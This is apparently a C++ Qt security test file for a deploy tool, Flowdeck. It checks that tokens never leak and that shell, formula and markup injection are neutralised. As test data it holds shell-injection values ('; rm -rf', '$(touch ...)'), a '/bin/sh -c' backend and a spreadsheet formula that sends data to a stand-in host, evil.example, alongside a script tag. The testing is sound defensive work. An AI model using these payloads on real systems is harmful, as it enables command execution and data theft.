// SPDX-License-Identifier: GPL-3.0-or-later
// The security promises of docs/development.md, checked on the program as users run it: a CI token or a backend's
// secret is in no byte of the workspace, its WAL, the output or any file Flowdeck writes, even when a run is killed
// or fails, and no address that holds credentials is stored; values from the data reach a deploy program as single
// arguments, never through a shell; an untrusted workspace starts no process; the report's CSV files start no cell
// as a formula and its HTML holds no markup from the data.
#include "githubfixtures.h"
#include "programrun.h"
#include "scriptedhttpserver.h"

#include "release/releasestore.h"
#include "store/query.h"
#include "store/workspace.h"

#include <QDateTime>
#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QTest>
#include <QXmlStreamReader>

#include <csignal>

using namespace flowdeck;
using namespace flowdeck::testing;
using namespace Qt::StringLiterals;

namespace {

const QString program = QStringLiteral(FLOWDECK_BINARY);
const QString repo = u"/repos/octo/hello"_s;

QByteArray readAll(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

QByteArray fixture(const QString &relative)
{
    const QByteArray bytes = readAll(QStringLiteral(FLOWDECK_SHARED_FIXTURES "/ci/") + relative);
    if (bytes.isEmpty())
        qFatal("cannot read the fixture %s", qPrintable(relative));
    return bytes;
}

bool makeExecutable(const QString &path, const QByteArray &script)
{
    QFile file(path);
    if (!file.open(QIODevice::WriteOnly) || file.write(script) != script.size())
        return false;
    file.close();
    return file.setPermissions(QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
}

/// The files under `root` (recursively, hidden ones too) whose bytes hold any of `needles`.
QStringList filesHolding(const QString &root, const QList<QByteArray> &needles)
{
    QStringList found;
    QDirIterator it(root, QDir::Files | QDir::Hidden | QDir::System, QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString file = it.next();
        const QByteArray bytes = readAll(file);
        for (const QByteArray &needle : needles) {
            if (bytes.contains(needle)) {
                found.append(QDir(root).relativeFilePath(file));
                break;
            }
        }
    }
    return found;
}

/// One RFC 4180 file: records of fields; a quoted field may hold commas, line breaks and doubled quotes.
QList<QStringList> readCsv(const QByteArray &bytes)
{
    const QString text = QString::fromUtf8(bytes);
    QList<QStringList> records;
    QStringList record;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
                field += c;
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            record.append(field);
            field.clear();
        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
            record.append(field);
            records.append(record);
            record.clear();
            field.clear();
            ++i;
        } else {
            field += c;
        }
    }
    if (!field.isEmpty() || !record.isEmpty()) {
        record.append(field);
        records.append(record);
    }
    return records;
}

} // namespace

class TestSecurity : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    QProcessEnvironment m_environment;

    QString path(const QString &name) const { return m_dir.filePath(name); }

    ProgramRun flowdeck(const QStringList &arguments, const QProcessEnvironment &environment = {}) const
    {
        return runProgram(program, arguments, environment.isEmpty() ? m_environment : environment, m_dir.path());
    }

    /// Fails the test when `needles` are in the run's output or in any file under the test's folder, which holds
    /// the workspaces (with their -wal and -shm files) and Flowdeck's settings, data and cache folders.
    void verifyNowhere(const QList<QByteArray> &needles, const ProgramRun &run, const QString &what) const
    {
        for (const QByteArray &needle : needles) {
            QVERIFY2(!run.out.contains(needle), qPrintable(what + u": the secret is in the standard output"_s));
            QVERIFY2(!run.err.toUtf8().contains(needle), qPrintable(what + u": the secret is in: "_s + run.err));
        }
        const QStringList files = filesHolding(m_dir.path(), needles);
        QVERIFY2(files.isEmpty(), qPrintable(what + u": the secret is in "_s + files.join(u", "_s)));
    }

    /// A workspace at `file` with the services, environments and one backend, and a planned release `name` of
    /// one deploy of `service` `version` to `environment` through that backend.
    void makeRelease(const QString &file, const QString &name, const QString &service, const QString &version,
                     const QString &environment, const QString &backendKind, const QJsonObject &config,
                     const QString &backendName)
    {
        auto workspace = store::Workspace::create(file);
        QVERIFY2(workspace, qPrintable(workspace.errorMessage()));
        auto exec = [&](const QString &sql, const QVariantList &values = {}) {
            return (*workspace)->write([&](QSqlDatabase &db) -> Result<void> {
                auto ran = store::runQuery(db, u"test"_s, sql, values);
                return ran ? Result<void>() : Result<void>(ran.error());
            });
        };
        QVERIFY(exec(u"INSERT INTO services (name) VALUES (?)"_s, {service}));
        QVERIFY(exec(u"INSERT INTO environments (name, tier) VALUES (?, 'production')"_s, {environment}));
        QVERIFY(
            exec(u"INSERT INTO backends (name, kind, config) VALUES (?, ?, ?)"_s,
                 {backendName, backendKind, QString::fromUtf8(QJsonDocument(config).toJson(QJsonDocument::Compact))}));
        const QSqlDatabase db = (*workspace)->connection();
        auto id = [&](const QString &sql) {
            auto query = store::runQuery(db, u"test"_s, sql);
            return query && query->next() ? query->value(0).toLongLong() : Id(0);
        };
        release::ReleasePlan plan;
        plan.release.name = name;
        plan.release.version = version;
        plan.release.status = release::status::planned;
        plan.release.createdAt = QDateTime::currentMSecsSinceEpoch();
        const Id serviceId = id(u"SELECT id FROM services"_s);
        plan.items = {ReleaseItem{0, 0, serviceId, version}};
        ReleaseTask deploy = release::newTask(u"deploy"_s, release::kind::deploy);
        deploy.serviceId = serviceId;
        deploy.environmentId = id(u"SELECT id FROM environments"_s);
        deploy.backendId = id(u"SELECT id FROM backends"_s);
        plan.tasks = {deploy};
        auto saved = release::savePlan(**workspace, plan, u"tester"_s);
        QVERIFY2(saved, qPrintable(saved.errorMessage()));
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        m_environment = isolatedEnvironment(m_dir.path());
        QVERIFY(!m_environment.isEmpty());
        m_environment.insert(u"QT_QPA_PLATFORM"_s, u"no-such-platform"_s);
        m_environment.remove(u"DISPLAY"_s);
    }

    void aCiTokenIsNowhere()
    {
        const QByteArray token = "ghp_SecurityMarker4f1c9e";
        QProcessEnvironment environment = m_environment;
        environment.insert(u"FLOWDECK_GITHUB_TOKEN"_s, QString::fromLatin1(token));
        const QString workspace = path(u"ci.flowdeck"_s);
        const QStringList arguments{u"import"_s, u"github"_s, u"octo/hello"_s, u"-w"_s, workspace, u"--api"_s};

        // Killed in the middle of the sync: the WAL is left as it was, not yet copied into the file.
        {
            ScriptedHttpServer server;
            scriptGithubFixtures(server, std::chrono::milliseconds(300));
            QProcess run;
            run.setProcessEnvironment(environment);
            run.setWorkingDirectory(m_dir.path());
            run.start(program, arguments + QStringList{server.origin()});
            QVERIFY(run.waitForStarted());
            QTRY_VERIFY_WITH_TIMEOUT(server.requestCount(repo + u"/deployments"_s) > 0, 20'000);
            QCOMPARE(::kill(pid_t(run.processId()), SIGKILL), 0);
            QVERIFY(run.waitForFinished());
            QVERIFY(QFile::exists(workspace + u"-wal"_s));
            QVERIFY(readAll(workspace + u"-wal"_s).size() > 0);
            ProgramRun killed;
            killed.out = run.readAllStandardOutput();
            killed.err = QString::fromUtf8(run.readAllStandardError());
            for (const ReceivedRequest &request : server.requests())
                QCOMPARE(request.header("Authorization"), "Bearer " + token);
            verifyNowhere({token}, killed, u"a sync killed midway"_s);
        }

        // The sync to its end, and one that fails on a server error.
        ScriptedHttpServer server;
        scriptGithubFixtures(server);
        const ProgramRun synced = flowdeck(arguments + QStringList{server.origin()}, environment);
        QVERIFY2(synced.exitCode == 0, qPrintable(synced.err));
        QVERIFY(server.requestCount(repo + u"/issues"_s) > 0);
        verifyNowhere({token}, synced, u"a sync"_s);

        ScriptedHttpServer failing;
        failing.script(repo + u"/actions/runs"_s,
                       ScriptedResponse::withStatus(401, R"({"message":"Bad credentials"})"));
        const ProgramRun refused = flowdeck(arguments + QStringList{failing.origin()}, environment);
        QCOMPARE(refused.exitCode, 1);
        QVERIFY2(refused.err.contains(u"401"_s), qPrintable(refused.err));
        verifyNowhere({token}, refused, u"a refused sync"_s);
    }

    void aJenkinsTokenIsNowhere()
    {
        const QByteArray secret = "11d3SecurityMarker77";
        const QByteArray basic = QByteArray("release-bot:" + secret).toBase64();
        QProcessEnvironment environment = m_environment;
        environment.insert(u"FLOWDECK_JENKINS_TOKEN"_s, u"release-bot:"_s + QString::fromLatin1(secret));
        ScriptedHttpServer server;
        server.script(u"/job/app/api/json"_s, ScriptedResponse::withStatus(500, "<html>Oops</html>"));
        const ProgramRun failed =
            flowdeck({u"import"_s, u"jenkins"_s, server.origin() + u"/job/app"_s, u"-w"_s, path(u"jenkins.flowdeck"_s)},
                     environment);
        QCOMPARE(failed.exitCode, 1);
        QVERIFY(!server.requests().isEmpty());
        for (const ReceivedRequest &request : server.requests())
            QCOMPARE(request.header("Authorization"), "Basic " + basic);
        verifyNowhere({secret, basic}, failed, u"a failed Jenkins sync"_s);
    }

    void anAddressWithCredentialsIsRefused_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<int>("exitCode");
        const QString secret = u"UrlMarker5e2d"_s;
        // The CI sources refuse it as a usage error, before anything is made.
        QTest::newRow("jenkins job") << QStringList{u"jenkins"_s, u"http://bot:%1@127.0.0.1:9/job/app"_s.arg(secret)}
                                     << 2;
        QTest::newRow("jenkins job without /job/")
            << QStringList{u"jenkins"_s, u"http://bot:%1@127.0.0.1:9/app"_s.arg(secret)} << 2;
        QTest::newRow("github api") << QStringList{u"github"_s, u"octo/hello"_s, u"--api"_s,
                                                   u"http://x:%1@127.0.0.1:9"_s.arg(secret)}
                                    << 2;
        QTest::newRow("gitlab api") << QStringList{u"gitlab"_s, u"group/app"_s, u"--api"_s,
                                                   u"https://oauth2:%1@gitlab.example"_s.arg(secret)}
                                    << 2;
        // A git import fails as an import does.
        QTest::newRow("git clone") << QStringList{u"git"_s, u"http://bob:%1@127.0.0.1:9/repo.git"_s.arg(secret)} << 1;
    }

    void anAddressWithCredentialsIsRefused()
    {
        QFETCH(QStringList, arguments);
        QFETCH(int, exitCode);
        const QString workspace = path(u"addresses.flowdeck"_s);
        const ProgramRun refused = flowdeck(QStringList{u"import"_s} + arguments + QStringList{u"-w"_s, workspace});
        QCOMPARE(refused.exitCode, exitCode);
        // The message names the address without the password.
        QVERIFY2(refused.err.contains(u"holds a password"_s) && refused.err.contains(u"://"_s),
                 qPrintable(refused.err));
        verifyNowhere({"UrlMarker5e2d"}, refused, QString::fromLatin1(QTest::currentDataTag()));
    }

    void aBackendSecretIsNowhere()
    {
        const QByteArray secret = "jnk_SecurityMarker0b7a";
        const QByteArray basic = QByteArray("release-bot:" + secret).toBase64();
        ScriptedHttpServer server;
        server.script(u"/crumbIssuer/api/json"_s,
                      ScriptedResponse::ok(R"({"crumb":"4d1f9e0b7c","crumbRequestField":"Jenkins-Crumb"})"));
        server.scriptMethod(
            "POST", u"/job/deploy/buildWithParameters"_s,
            ScriptedResponse::withStatus(201).withHeader("Location", server.origin().toLatin1() + "/queue/item/73/"));
        server.script(u"/queue/item/73/api/json"_s,
                      ScriptedResponse::ok(R"({"_class":"hudson.model.Queue$LeftItem","id":73,"cancelled":false,)"
                                           R"("executable":{"number":10,"url":")" +
                                           server.origin().toLatin1() + R"(/job/deploy/10/"}})"));
        QJsonObject build = QJsonDocument::fromJson(fixture(u"jenkins/jenkins-rest-build-info.json"_s)).object();
        build.insert(u"building"_s, false);
        build.insert(u"result"_s, u"SUCCESS"_s);
        server.script(u"/job/deploy/10/api/json"_s, ScriptedResponse::ok(QJsonDocument(build).toJson()));
        server.script(u"/job/deploy/10/logText/progressiveText"_s,
                      ScriptedResponse::ok("Deploying\nFinished: SUCCESS\n", "text/plain;charset=UTF-8")
                          .withHeader("X-Text-Size", "28"));

        const QString workspace = path(u"jenkins-release.flowdeck"_s);
        makeRelease(
            workspace, u"spring"_s, u"shop"_s, u"2.0.0"_s, u"production"_s, u"jenkins"_s,
            QJsonObject{{u"job_url"_s, QString(server.origin() + u"/job/deploy"_s)}, {u"user"_s, u"release-bot"_s}},
            u"jenkins-prod"_s);
        QVERIFY(!QTest::currentTestFailed());
        QCOMPARE(flowdeck({u"release"_s, u"trust"_s, u"-w"_s, workspace}).exitCode, 0);
        QProcessEnvironment environment = m_environment;
        environment.insert(u"FLOWDECK_BACKEND_JENKINS_PROD_TOKEN"_s, QString::fromLatin1(secret));
        const ProgramRun run =
            flowdeck({u"release"_s, u"run"_s, u"spring"_s, u"-w"_s, workspace, u"--json"_s}, environment);
        QVERIFY2(run.exitCode == 0, qPrintable(run.err));
        QCOMPARE(QJsonDocument::fromJson(run.out).object().value(u"status"_s).toString(), u"succeeded"_s);
        QVERIFY(server.requestCount("POST", u"/job/deploy/buildWithParameters"_s) == 1);
        for (const ReceivedRequest &request : server.requests())
            QCOMPARE(request.header("Authorization"), "Basic " + basic);
        verifyNowhere({secret, basic}, run, u"a release through Jenkins"_s);
    }

    void valuesFromTheDataStayOneArgumentEach()
    {
        const QString out = path(u"argv.txt"_s);
        const QString program = path(u"print-arguments.sh"_s);
        QVERIFY(makeExecutable(program, "#!/bin/sh\nprintf '%s\\n' \"$#\" > '" + out.toUtf8() +
                                            "'\nfor argument in \"$@\"; do printf '[%s]\\n' \"$argument\" >> '" +
                                            out.toUtf8() + "'; done\n"));
        const QString keep = path(u"keep"_s);
        QVERIFY(QDir().mkpath(keep));
        const QString pwned = path(u"pwned"_s);
        const QString service = u"shop; touch "_s + pwned + u"-service"_s;
        const QString version = u"1.0$(touch "_s + pwned + u"-version)"_s;
        const QString environmentName = u"prod`touch "_s + pwned + u"-environment`"_s;
        const QString release = u"spring && touch "_s + pwned + u"-release | cat"_s;
        const QString workspace = path(u"argv.flowdeck"_s);
        makeRelease(workspace, release, service, version, environmentName, u"process"_s,
                    QJsonObject{{u"program"_s, program},
                                {u"arguments"_s, QJsonArray{u"{service}"_s, u"{version}"_s, u"{environment}"_s,
                                                            u"--release={release}"_s, QString(u"; rm -rf "_s + keep),
                                                            QString(u"> "_s + pwned + u"-redirect"_s)}}},
                    u"script"_s);
        QVERIFY(!QTest::currentTestFailed());
        QCOMPARE(flowdeck({u"release"_s, u"trust"_s, u"-w"_s, workspace}).exitCode, 0);
        const ProgramRun run = flowdeck({u"release"_s, u"run"_s, release, u"-w"_s, workspace});
        QVERIFY2(run.exitCode == 0, qPrintable(run.err));
        const QByteArray expected = "6\n[" + service.toUtf8() + "]\n[" + version.toUtf8() + "]\n[" +
                                    environmentName.toUtf8() + "]\n[--release=" + release.toUtf8() + "]\n[; rm -rf " +
                                    keep.toUtf8() + "]\n[> " + pwned.toUtf8() + "-redirect]\n";
        QCOMPARE(readAll(out), expected);
        QVERIFY(QFileInfo(keep).isDir());
        const QStringList made = QDir(m_dir.path()).entryList({u"pwned*"_s});
        QVERIFY2(made.isEmpty(), qPrintable(made.join(u", "_s)));
    }

    void anUntrustedWorkspaceStartsNoProcess()
    {
        const QString started = path(u"started.txt"_s);
        const QString program = path(u"deploy-marker.sh"_s);
        QVERIFY(makeExecutable(program, "#!/bin/sh\necho \"$1\" >> '" + started.toUtf8() + "'\n"));
        const QString workspace = path(u"untrusted.flowdeck"_s);
        const QJsonObject config{{u"program"_s, program}, {u"arguments"_s, QJsonArray{u"{service}"_s}}};
        makeRelease(workspace, u"spring"_s, u"shop"_s, u"2.0.0"_s, u"production"_s, u"process"_s, config, u"script"_s);
        QVERIFY(!QTest::currentTestFailed());
        // A cache of its own, where a started deploy would leave its job's folder.
        QProcessEnvironment environment = m_environment;
        const QString cache = path(u"untrusted-cache"_s);
        QVERIFY(QDir().mkpath(cache));
        environment.insert(u"XDG_CACHE_HOME"_s, cache);
        const auto nothingStarted = [&](const QString &when) {
            QVERIFY2(!QFile::exists(started), qPrintable(when + u": the deploy ran"_s));
            QStringList made;
            QDirIterator it(cache, QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden,
                            QDirIterator::Subdirectories);
            while (it.hasNext())
                made.append(it.next());
            QVERIFY2(made.filter(u"/jobs/"_s).isEmpty(),
                     qPrintable(when + u": jobs were made: "_s + made.join(u", "_s)));
        };

        const ProgramRun untrusted = flowdeck({u"release"_s, u"run"_s, u"spring"_s, u"-w"_s, workspace}, environment);
        QCOMPARE(untrusted.exitCode, 1);
        QVERIFY2(untrusted.err.contains(u"not trusted"_s), qPrintable(untrusted.err));
        nothingStarted(u"untrusted"_s);

        // Trusted, then its backend changed behind the user's back: untrusted again.
        QCOMPARE(flowdeck({u"release"_s, u"trust"_s, u"-w"_s, workspace}).exitCode, 0);
        const auto setConfig = [&](const QJsonObject &to) {
            auto opened = store::Workspace::open(workspace);
            QVERIFY2(opened, qPrintable(opened.errorMessage()));
            auto written = (*opened)->write([&](QSqlDatabase &db) -> Result<void> {
                auto ran = store::runQuery(db, u"test"_s, u"UPDATE backends SET config = ?"_s,
                                           {QString::fromUtf8(QJsonDocument(to).toJson(QJsonDocument::Compact))});
                return ran ? Result<void>() : Result<void>(ran.error());
            });
            QVERIFY2(written, qPrintable(written.errorMessage()));
        };
        setConfig(QJsonObject{{u"program"_s, u"/bin/sh"_s},
                              {u"arguments"_s, QJsonArray{u"-c"_s, u"echo changed >> '%1'"_s.arg(started)}}});
        const ProgramRun changed = flowdeck({u"release"_s, u"run"_s, u"spring"_s, u"-w"_s, workspace}, environment);
        QCOMPARE(changed.exitCode, 1);
        QVERIFY2(changed.err.contains(u"not trusted"_s) && changed.err.contains(u"/bin/sh"_s), qPrintable(changed.err));
        nothingStarted(u"changed backend"_s);

        // The backend it was trusted with runs: what the checks above look for would have been there.
        setConfig(config);
        const ProgramRun trusted = flowdeck({u"release"_s, u"run"_s, u"spring"_s, u"-w"_s, workspace}, environment);
        QVERIFY2(trusted.exitCode == 0, qPrintable(trusted.err));
        QCOMPARE(readAll(started), QByteArray("shop\n"));
        QStringList made;
        QDirIterator it(cache, QDir::AllEntries | QDir::NoDotAndDotDot, QDirIterator::Subdirectories);
        while (it.hasNext())
            made.append(it.next());
        QVERIFY(!made.filter(u"/jobs/"_s).isEmpty());
    }

    void reportsHoldNoFormulaAndNoMarkupFromTheData()
    {
        const QString workspace = path(u"report.flowdeck"_s);
        const ProgramRun demo = flowdeck({u"demo"_s, u"-w"_s, workspace});
        QVERIFY2(demo.exitCode == 0, qPrintable(demo.err));
        // Services, releases, environments, stages and repositories named like an attack on a spreadsheet and on a
        // browser: they reach the report as the value stream's steps, the opportunities, the coverage's sources.
        const QString hostile = u"=HYPERLINK(\"http://evil.example/?\"&A1)<script>alert('x')</script>"_s;
        {
            auto opened = store::Workspace::open(workspace);
            QVERIFY2(opened, qPrintable(opened.errorMessage()));
            auto renamed = (*opened)->write([&](QSqlDatabase &db) -> Result<void> {
                for (const QString &column : {u"services.name"_s, u"releases.name"_s, u"environments.name"_s,
                                              u"stages.name"_s, u"repositories.name"_s, u"repositories.url"_s}) {
                    const QStringList parts = column.split(u'.');
                    auto ran = store::runQuery(
                        db, u"test"_s, u"UPDATE %1 SET %2 = ? || id || '@' || %2"_s.arg(parts[0], parts[1]), {hostile});
                    if (!ran)
                        return ran.error();
                }
                return {};
            });
            QVERIFY2(renamed, qPrintable(renamed.errorMessage()));
        }

        const QString csv = path(u"report-csv"_s);
        const ProgramRun csvRun = flowdeck({u"report"_s, u"-w"_s, workspace, u"--format"_s, u"csv"_s, u"-o"_s, csv});
        QVERIFY2(csvRun.exitCode == 0, qPrintable(csvRun.err));
        const QStringList files = QDir(csv).entryList({u"*.csv"_s}, QDir::Files);
        QVERIFY(!files.isEmpty());
        QStringList neutralisedIn;
        for (const QString &file : files) {
            for (const QStringList &record : readCsv(readAll(QDir(csv).filePath(file)))) {
                for (const QString &cell : record) {
                    bool number = false;
                    cell.toDouble(&number);
                    QVERIFY2(cell.isEmpty() || number || !u"=+-@\t\r"_s.contains(cell.front()),
                             qPrintable(file + u": "_s + cell));
                    if (cell.startsWith(u"'=HYPERLINK"_s) && !neutralisedIn.contains(file))
                        neutralisedIn.append(file);
                }
            }
        }
        // The names are there, as text: the stages as the value stream's steps and the opportunities', the
        // repositories as the coverage's sources.
        neutralisedIn.sort();
        QCOMPARE(neutralisedIn, (QStringList{u"coverage.csv"_s, u"opportunities.csv"_s, u"valuestream.csv"_s}));

        const QString htmlFile = path(u"report.html"_s);
        const ProgramRun htmlRun =
            flowdeck({u"report"_s, u"-w"_s, workspace, u"--format"_s, u"html"_s, u"-o"_s, htmlFile});
        QVERIFY2(htmlRun.exitCode == 0, qPrintable(htmlRun.err));
        const QByteArray bytes = readAll(htmlFile);
        const QString html = QString::fromUtf8(bytes);
        QVERIFY(!html.isEmpty());
        QVERIFY2(!html.contains(u"<script"_s, Qt::CaseInsensitive), "markup from the data in the HTML report");
        QVERIFY(!html.contains(u"\"http://evil.example"_s));
        // Well-formed XML: no value broke out of its element or attribute.
        QXmlStreamReader xml(bytes);
        while (!xml.atEnd())
            xml.readNext();
        QVERIFY2(!xml.hasError(), qPrintable(xml.errorString()));
        // The names are there, escaped, in the tables, in the text and in the value stream map's SVG.
        const QString escaped = u"&lt;script&gt;alert('x')&lt;/script&gt;"_s;
        QString inSvg;
        QString outsideSvg = html;
        static const QRegularExpression svg(u"<svg.*?</svg>"_s, QRegularExpression::DotMatchesEverythingOption);
        for (QRegularExpressionMatchIterator it = svg.globalMatch(html); it.hasNext();)
            inSvg += it.next().captured();
        outsideSvg.remove(svg);
        // The map's boxes shorten long names: their start is there.
        QVERIFY2(inSvg.contains(u"=HYPERLINK(&quot;http"_s), qPrintable(inSvg.left(3000)));
        QVERIFY(outsideSvg.contains(u"<td>=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1)"_s + escaped));
        QVERIFY(outsideSvg.contains(u"before =HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1)"_s + escaped));
    }
};

QTEST_GUILESS_MAIN(TestSecurity)
#include "tst_security.moc"
